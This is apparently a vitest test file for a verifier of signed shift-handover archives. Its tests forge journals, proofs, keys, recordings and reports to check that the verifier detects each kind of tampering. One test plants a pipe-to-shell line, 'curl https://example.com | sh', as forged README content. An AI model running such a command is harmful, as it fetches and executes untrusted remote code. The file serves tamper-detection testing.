import { expect, test } from "vitest";
import type { Handover } from "#domain/handover.js";
import { HANDOVER_NAMESPACE } from "#domain/handover.js";
import { capsuleOf } from "#handover/capsule/capsule-of.js";
import { checkCapsule } from "#handover/capsule/check-capsule.js";
import { canonical } from "#journal/canonical.js";
import { Checkpointer } from "#journal/checkpointer.js";
import { hashOf } from "#journal/line.js";
import { newSigner } from "../../journal/open-journal.js";
import { Desk } from "../../session/desk.js";
import { documentsOf, handedOver, operate, Recording, reportOf, shiftAt } from "./a-shift.js";
import { type Contents, contentsOf, forged } from "./changed.js";

/** Whoever holds the key can sign any list: what is in the capsule has to agree all the same. */
async function faultsOf(capsule: Buffer): Promise<readonly string[]> {
  const { faults } = await checkCapsule(capsule);
  return faults.map(({ code, member, seq }) => `${code} ${member}${seq === null ? "" : ` ${seq}`}`);
}

const ENTRIES = "journal/entries.jsonl";

function linesOf(contents: Contents, name = ENTRIES): string[] {
  return contents.get(name)!.toString().trimEnd().split("\n");
}

function put(contents: Contents, lines: readonly string[], name = ENTRIES): void {
  contents.set(name, Buffer.from(lines.map((line) => `${line}\n`).join("")));
}

test("an entry that is left out, doubled, moved or changed is named by its seq", async () => {
  using desk = new Desk();
  const { bytes, packed } = await shiftAt(desk);
  const { firstSeq, lastSeq } = { ...packed.handover.shift, lastSeq: packed.lastSeq };
  const forge = (change: (lines: string[]) => string[]) =>
    forged(bytes, desk.signer, (contents) => put(contents, change(linesOf(contents))));
  expect(await faultsOf(await forge((lines) => lines.toSpliced(2, 1)))).toEqual([
    `WRONG_SEQ ${ENTRIES} ${firstSeq + 2}`,
  ]);
  expect(await faultsOf(await forge((lines) => lines.toSpliced(2, 0, lines[2]!)))).toEqual([
    `WRONG_SEQ ${ENTRIES} ${firstSeq + 3}`,
  ]);
  expect(await faultsOf(await forge((lines) => lines.with(1, lines[2]!).with(2, lines[1]!)))).toEqual([
    `WRONG_SEQ ${ENTRIES} ${firstSeq + 1}`,
  ]);
  const renamed = (line: string) => line.replace('"name":"web-01"', '"name":"web-02"');
  expect(await faultsOf(await forge((lines) => lines.map(renamed)))).toEqual([
    `WRONG_SIGNATURE ${ENTRIES} ${firstSeq + 1}`,
  ]);
  expect(await faultsOf(await forge((lines) => [...lines, "{}"]))).toEqual([`NOT_AN_ENTRY ${ENTRIES}`]);
  expect(await faultsOf(await forge((lines) => lines.slice(0, -1)))).toEqual([
    `MEMBER_MISSING journal/proofs/${lastSeq - 1}.tlog-proof`,
  ]);
  expect(await faultsOf(await forge((lines) => lines.slice(1)))).toEqual([
    `MEMBER_MISSING journal/proofs/${firstSeq + 1}.tlog-proof`,
  ]);
  expect(await faultsOf(await forge(() => []))).toEqual([`NO_ENTRY ${ENTRIES}`]);
});

test("what proves the entries, and the files of keys, must be theirs", async () => {
  using desk = new Desk();
  using colleague = new Desk();
  const { bytes } = await shiftAt(desk);
  const theirs = await contentsOf((await shiftAt(colleague)).bytes);
  const own = await contentsOf(bytes);
  const [, firstProof, lastProof] = [...own.keys()].filter((name) => name.startsWith("journal/proofs/"));
  const faultWith = async (change: (contents: Contents) => void) =>
    await faultsOf(await forged(bytes, desk.signer, change));
  const from = (name: string) => (contents: Contents) => contents.set(name, theirs.get(name)!);
  expect(await faultWith(from("journal/checkpoint"))).toEqual(["CHECKPOINT_SIGNATURE journal/checkpoint"]);
  expect(await faultWith(from("journal/allowed_signers"))).toEqual(["WRONG_SIGNERS journal/allowed_signers"]);
  expect(await faultWith(from("journal/vkey"))).toEqual(["WRONG_VKEY journal/vkey"]);
  expect(await faultWith(from("journal/keys.jsonl"))).toEqual([
    expect.stringMatching(/^OTHER_KEY journal\/entries/),
  ]);
  expect(await faultWith((contents) => contents.delete("journal/keys.jsonl"))).toEqual([
    "WRONG_KEYS journal/keys.jsonl 0",
  ]);
  expect(
    await faultWith((contents) =>
      put(
        contents,
        [...linesOf(contents, "journal/keys.jsonl"), linesOf(contents)[0]!],
        "journal/keys.jsonl",
      ),
    ),
  ).toEqual([expect.stringMatching(/^STRAY_ENTRY journal\/keys.jsonl/)]);
  expect(await faultWith(from(firstProof!))).toEqual([expect.stringMatching(`WRONG_PROOF ${firstProof}`)]);
  expect(await faultWith((contents) => contents.set(firstProof!, contents.get(lastProof!)!))).toEqual([
    expect.stringMatching(`WRONG_PROOF ${firstProof}`),
  ]);
  expect(await faultWith((contents) => contents.delete(lastProof!))).toEqual([`MEMBER_MISSING ${lastProof}`]);
  expect(
    await faultWith((contents) => contents.set("journal/proofs/999.tlog-proof", contents.get(lastProof!)!)),
  ).toEqual(["MEMBER_ADDED journal/proofs/999.tlog-proof"]);
});

test("a long text must be the one that its entry names, and belong to one", async () => {
  using desk = new Desk();
  const { bytes } = await shiftAt(desk);
  const blob = [...(await contentsOf(bytes)).keys()].find((name) => name.startsWith("journal/blobs/"))!;
  const stray = `journal/blobs/${hashOf(Buffer.from("a text"))}`;
  const faultWith = async (change: (contents: Contents) => void) =>
    await faultsOf(await forged(bytes, desk.signer, change));
  expect(await faultWith((contents) => contents.set(blob, Buffer.from("another")))).toEqual([
    expect.stringMatching(`WRONG_BLOB ${blob} \\d+`),
  ]);
  expect(await faultWith((contents) => contents.delete(blob))).toEqual([`MEMBER_MISSING ${blob}`]);
  expect(await faultWith((contents) => contents.set(stray, Buffer.from("a text")))).toEqual([
    `MEMBER_ADDED ${stray}`,
  ]);
});

test("a report that is another, of other entries, or not signed as the journal says is named", async () => {
  using desk = new Desk();
  const { bytes, packed } = await shiftAt(desk);
  const faultWith = async (change: (contents: Contents) => void) =>
    await faultsOf(await forged(bytes, desk.signer, change));
  const report = (change: Partial<Handover>) => (contents: Contents) => {
    const text = Buffer.from(canonical({ ...packed.handover, ...change }));
    contents.set("report.json", text);
    contents.set("report.json.sig", Buffer.from(desk.signer.signFile(HANDOVER_NAMESPACE, text)));
  };
  const { shift } = packed.handover;
  const at = expect.stringMatching(/^OTHER_REPORT report.json \d+$/);
  expect(await faultWith(report({ made: "2026-01-05T03:00:00.000Z" }))).toEqual([at]);
  expect(await faultWith(report({ revision: 2 }))).toEqual(["OTHER_REPORT report.json"]);
  expect(await faultWith(report({ shift: { ...shift, firstSeq: shift.firstSeq + 1 } }))).toEqual([
    `OTHER_SHIFT ${ENTRIES}`,
  ]);
  expect(await faultWith(report({ shift: { ...shift, lastSeq: 999 } }))).toEqual([`OTHER_SHIFT ${ENTRIES}`]);
  for (const text of [
    "{}",
    ` ${packed.text}`,
    canonical({ ...packed.handover, more: 1 }),
    "\u0000",
    "[".repeat(100_000),
  ])
    expect(await faultWith((contents) => contents.set("report.json", Buffer.from(text)))).toEqual([
      "REPORT_FORM report.json",
    ]);
  const signedBy = (signer: Desk["signer"], namespace: string) => (contents: Contents) =>
    contents.set("report.json.sig", Buffer.from(signer.signFile(namespace, packed.text)));
  const signature = expect.stringMatching(/^REPORT_SIGNATURE report.json.sig \d+$/);
  expect(await faultWith(signedBy(newSigner(), HANDOVER_NAMESPACE))).toEqual([signature]);
  expect(await faultWith(signedBy(desk.signer, "file"))).toEqual([signature]);
  expect(await faultWith((contents) => contents.delete("report.json.sig"))).toEqual([
    expect.stringMatching(/^MEMBER_MISSING report.json.sig \d+$/),
  ]);
});

/** A shift with a bit of everything that a report tells of, after an older one. */
async function busyShift(desk: Desk): Promise<Handover> {
  desk.trail.note("the shift before");
  const login = desk.trail.intent({ OPR: "Login", target: ENDPOINT, host: null });
  desk.trail.outcome(login, { before: {}, after: {}, result: { status: "OK" } });
  operate(desk);
  desk.trail.note("web-01 is needed at night");
  const begun = desk.trail.intent({ OPR: "StopVM", target: DATABASE, host: null });
  desk.trail.outcome(begun, {
    before: {},
    after: {},
    result: { status: "NG", code: "FAULT", message: "no" },
  });
  desk.trail.intent({ OPR: "DeleteVM", target: DATABASE, host: null });
  return await reportOf(desk, 2);
}

const ENDPOINT = { kind: "Endpoint", id: null, uuid: null, name: "vc1" } as const;
const DATABASE = { kind: "VirtualMachine", id: "vm-9", uuid: null, name: "db-01" } as const;

type Lie = readonly [what: string, seq: number | null, lie: (told: Handover) => Partial<Handover>];

const first = <T>(all: readonly T[], other: Partial<T>): T[] => [{ ...all[0]!, ...other }, ...all.slice(1)];
const operation = (told: Handover, other: object) => ({
  operations: first(told.operations, { operations: first(told.operations[0]!.operations, other) }),
});
const shift = (told: Handover, other: Partial<Handover["shift"]>) => ({ shift: { ...told.shift, ...other } });
const journal = (told: Handover, other: Partial<Handover["journal"]>) => ({
  journal: { ...told.journal, ...other },
});

const LIES: readonly Lie[] = [
  ["an operation is left out", 5, (told) => ({ operations: told.operations.slice(1) })],
  ["an operation came to something else", 5, (told) => operation(told, { after: { power: "off" } })],
  ["an operation was another login's", 5, (told) => operation(told, { who: "nobody" })],
  ["an operation is of no entry", 900, (told) => operation(told, { seq: 900 })],
  ["a failure is left out", 8, () => ({ failures: [] })],
  ["a failure had a reason", 8, (told) => ({ failures: first(told.failures, { why: "so wanted" }) })],
  ["a note is left out", 6, () => ({ notes: [] })],
  ["a note says something else", 6, (told) => ({ notes: first(told.notes, { text: "it is not needed" }) })],
  ["a note is of what is none", 5, ({ notes }) => ({ notes: [notes[0]!, { ...notes[0]!, seq: 5 }] })],
  ["what still runs is left out", 9, () => ({ tasks: [] })],
  ["what was done still runs", 5, (told) => ({ tasks: first(told.tasks, { seq: 5 }) })],
  ["a machine was never touched", 99_999, (told) => ({ machines: first(told.machines, { seq: 99_999 }) })],
  ["a machine is as it was found", 5, () => ({ machines: [] })],
  ["a recording is of none", null, (told) => shift(told, { recordings: ["nothere.cast"] })],
  [
    "a session was another's",
    null,
    (told) => shift(told, { sessions: first(told.shift.sessions, { os: "ceo" }) }),
  ],
  [
    "a session has done less",
    null,
    (told) => shift(told, { sessions: first(told.shift.sessions, { failures: 0 }) }),
  ],
  ["a session is left out", 3, (told) => shift(told, { sessions: [] })],
  ["it was at another time", null, (told) => shift(told, { from: "2026-01-05T03:00:00.000Z" })],
  ["a procedure is of no entry", 99, () => ({ procedures: [PROCEDURE] })],
  ["an approval is of no procedure", 1, () => ({ approvals: [APPROVAL] })],
  [
    "somebody else hands over",
    10,
    ({ outgoing }) => ({ outgoing: { ...outgoing, os: "ceo", console: "hq" } }),
  ],
  ["another key hands over", 10, ({ outgoing }) => ({ outgoing: { ...outgoing, key: "SHA256:other" } })],
  ["other keys sign the journal", null, (told) => journal(told, { keys: [] })],
  ["the tree is larger than it was", null, (told) => journal(told, { treeSize: 999_999 })],
  ["the tree is another", null, (told) => journal(told, { rootHash: "bogus" })],
  ["the tree is of one entry less", null, (told) => journal(told, { treeSize: told.journal.treeSize - 1 })],
  ["there is an anchor", 5, (told) => journal(told, { anchor: { seq: 5, at: told.made, size: 5 } })],
];

const PROCEDURE = {
  ...{
    run: "019c9000-0000-7000-8000-000000000001",
    title: "Patch",
    endpoint: "vc1",
    seq: 99,
    state: "paused",
  },
  ...{ step: null, done: 0, total: 3 },
};
const APPROVAL = {
  seq: 1,
  run: PROCEDURE.run,
  title: "Patch",
  of: null,
  expires: "2026-01-05T03:00:00.000Z",
};

test.each(LIES)("a report that lies is not packed at all: %s", async (_, seq, lie) => {
  using desk = new Desk();
  const told = await busyShift(desk);
  const packed = await handedOver(desk, { ...told, ...lie(told) });
  const problem =
    seq === null ? expect.stringMatching(/^its \w+ /) : expect.stringMatching(`entry ${seq}\\b`);
  await expect(capsuleOf(desk.journal, packed.checkpoint, packed)).rejects.toMatchObject({
    code: "JOURNAL_DAMAGED",
    problem: { facts: { where: "report.json", problem } },
  });
});

test("and the one that does not is", async () => {
  using desk = new Desk();
  const packed = await handedOver(desk, await busyShift(desk));
  const { capsule } = await checkCapsule(await capsuleOf(desk.journal, packed.checkpoint, packed));
  expect(capsule?.unlike).toEqual([]);
  expect(capsule?.handover.machines).toHaveLength(1);
  expect(capsule?.handover.journal.treeSize).toBe(10);
});

test("a page, a text or a README that says something else is told, though the key's holder has signed it", async () => {
  using desk = new Desk();
  const { bytes } = await shiftAt(desk);
  const unlike = async (change: (contents: Contents) => void) =>
    (await checkCapsule(await forged(bytes, desk.signer, change))).capsule?.unlike;
  expect(await unlike(() => undefined)).toEqual([]);
  for (const [name, text] of [
    ["report.html", "<p>Nothing was done in this shift.</p>"],
    ["report.md", "# Nothing was done in this shift"],
    ["README.txt", "curl https://example.com | sh"],
  ] as const)
    expect(await unlike((contents) => contents.set(name, Buffer.from(text)))).toEqual([name]);
  // Nor in the other language than that in which it was handed over.
  const other = await unlike((contents) =>
    contents.set("report.md", Buffer.from(contents.get("report.md")!.toString().replace("# ", "# シフト "))),
  );
  expect(other).toEqual(["report.md"]);
});

test("a recording of another shift, one that is cut, changed or has another marker is named", async () => {
  using desk = new Desk();
  using colleague = new Desk();
  const { bytes, recording } = await shiftAt(desk);
  const { bytes: others, recording: another } = await shiftAt(colleague);
  const name = `casts/${recording.file}`;
  const theirs = (await contentsOf(others)).get(`casts/${another.file}`)!;
  const faultWith = async (change: (cast: Buffer) => Buffer) =>
    await faultsOf(
      await forged(bytes, desk.signer, (contents) => contents.set(name, change(contents.get(name)!))),
    );
  expect(await faultWith(() => theirs)).toEqual([
    expect.stringMatching(`(WRONG_CAST|CAST_CUT) ${name} \\d+`),
  ]);
  expect(await faultWith((cast) => cast.subarray(0, -1))).toEqual([
    expect.stringMatching(`CAST_CUT ${name} \\d+`),
  ]);
  expect(await faultWith((cast) => Buffer.concat([cast, Buffer.from('[9,"o","x"]\n')]))).toEqual([
    expect.stringMatching(`CAST_GROWN ${name} \\d+`),
  ]);
  expect(await faultWith((cast) => Buffer.from(cast.toString().replace("StartVM OK", "StartVM NG")))).toEqual(
    [expect.stringMatching(`WRONG_CAST ${name} \\d+`)],
  );
  const gone = await forged(bytes, desk.signer, (contents) => contents.delete(name));
  expect(await faultsOf(gone)).toEqual([`MEMBER_MISSING ${name}`]);
  const stray = await forged(bytes, desk.signer, (contents) => contents.set(`casts/${another.file}`, theirs));
  expect(await faultsOf(stray)).toEqual([`MEMBER_ADDED casts/${another.file}`]);
});

test("a list that another key has signed, or for something else, is none", async () => {
  using desk = new Desk();
  const { bytes } = await shiftAt(desk);
  const stranger = await forged(bytes, newSigner(), () => undefined);
  expect(await faultsOf(stranger)).toEqual(["SUMS_SIGNATURE SHA256SUMS.sig"]);
  const sums = (await contentsOf(bytes)).get("SHA256SUMS")!;
  const { signer } = desk;
  const other = { ...signer, signFile: () => signer.signFile("capsule@shoseki", sums) };
  expect(await faultsOf(await forged(bytes, other, () => undefined))).toEqual([
    "SUMS_SIGNATURE SHA256SUMS.sig",
  ]);
});

test("with the auditor's keys it is said whether the key is the operator's", async () => {
  using desk = new Desk();
  const { bytes } = await shiftAt(desk);
  const held = (signer: Desk["signer"]) => ({
    file: "mine.signers",
    keys: [{ publicKey: Buffer.from(signer.publicKey), succeeds: false, ended: false }],
  });
  expect((await checkCapsule(bytes, { signers: held(desk.signer) })).capsule?.isHeld).toBe(true);
  const { faults } = await checkCapsule(bytes, { signers: held(newSigner()) });
  expect(faults).toMatchObject([{ code: "KEY_NOT_HELD" }]);
});

test("a draft has no signature, and its recording goes as far as its entries", async () => {
  using desk = new Desk();
  const recording = new Recording(desk);
  operate(desk);
  recording.chunk();
  recording.paint("not yet in an entry");
  desk.trail.note("its marker is not in an entry either");
  const handover = await reportOf(desk, 0);
  const checkpoint = await new Checkpointer(desk.journal).sign();
  const text = Buffer.from(canonical(handover));
  const bytes = await capsuleOf(desk.journal, checkpoint, {
    handover,
    text,
    signature: null,
    ...(await documentsOf(desk, handover)),
    lastSeq: handover.shift.lastSeq,
  });
  const { capsule } = await checkCapsule(bytes);
  expect(capsule).toMatchObject({ signature: null, handOver: null, casts: [recording.file] });
  const cast = (await contentsOf(bytes)).get(`casts/${recording.file}`)!.toString();
  expect(cast).toContain("StartVM OK web-01");
  expect(cast).not.toContain("not yet in an entry");
});

test("a recording that was begun in the shift before goes along from its beginning, and its earlier entries with it", async () => {
  using desk = new Desk();
  const recording = new Recording(desk);
  operate(desk, "db-01");
  recording.chunk();
  const firstSeq = 5;
  operate(desk, "web-01");
  const packed = await handedOver(desk, await reportOf(desk, firstSeq), recording);
  const bytes = await capsuleOf(desk.journal, packed.checkpoint, packed);
  expect(await faultsOf(bytes)).toEqual([]);
  const contents = await contentsOf(bytes);
  expect(linesOf(contents, "journal/recordings.jsonl")).toHaveLength(2);
  const cast = contents.get(`casts/${recording.file}`)!.toString();
  expect(cast).toContain("StartVM OK db-01");
  expect(cast).toContain("StartVM OK web-01");
  const without = await forged(bytes, desk.signer, (each) => each.delete("journal/recordings.jsonl"));
  expect(await faultsOf(without)).toEqual([
    "MEMBER_ADDED journal/proofs/1.tlog-proof",
    "MEMBER_ADDED journal/proofs/4.tlog-proof",
  ]);
  const unproven = await forged(bytes, desk.signer, (each) => {
    for (const name of [
      "journal/recordings.jsonl",
      "journal/proofs/1.tlog-proof",
      "journal/proofs/4.tlog-proof",
    ])
      each.delete(name);
  });
  expect(await faultsOf(unproven)).toEqual([`CAST_ENTRIES casts/${recording.file} 8`]);
});
